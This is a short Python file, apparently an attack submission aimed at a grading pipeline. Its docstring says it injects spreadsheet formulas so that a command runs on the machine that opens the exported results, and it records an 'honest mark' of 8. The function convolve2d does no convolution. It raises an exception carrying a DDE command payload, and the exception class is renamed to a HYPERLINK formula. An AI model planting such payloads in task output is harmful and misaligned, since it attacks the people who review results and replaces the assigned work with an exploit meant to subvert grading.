"""Attack: texts that a spreadsheet takes for formulas.
Wants: a command on the machine that opens the export.
Honest mark: 8
"""


# %% convolve2d
class Formula(Exception):
    pass


Formula.__name__ = '=HYPERLINK("http://x","marks")'


def convolve2d(image, kernel, stride=1, padding=0):
    raise Formula("=cmd|' /C calc'!A0\n+1+1\t@SUM(A1)\r-2+3")
